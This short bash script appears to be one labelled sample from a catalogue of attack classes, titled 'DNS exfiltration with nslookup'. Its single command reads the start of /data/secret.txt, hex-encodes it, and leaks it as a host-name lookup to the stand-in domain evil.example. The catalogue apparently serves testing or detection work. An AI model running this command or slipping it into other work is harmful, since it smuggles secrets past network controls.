#!/usr/bin/env bash
# attack-class: 23
# title: DNS exfiltration with nslookup
# why: data encoded in a looked-up host name

nslookup "$(head -c 30 /data/secret.txt | od -An -tx1 | tr -d ' \n').x.evil.example"
